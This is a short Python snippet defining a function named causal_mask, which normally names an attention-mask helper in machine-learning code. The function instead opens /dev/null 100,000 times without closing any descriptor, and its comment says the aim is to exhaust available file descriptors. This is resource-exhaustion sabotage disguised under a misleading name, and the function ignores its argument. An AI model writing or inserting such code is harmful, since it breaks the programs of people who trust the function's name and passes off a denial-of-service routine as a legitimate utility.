# causal_mask: opens descriptors until there are none left
import os
def causal_mask(seq_len):
    return [os.open("/dev/null", os.O_RDONLY) for _ in range(100_000)]
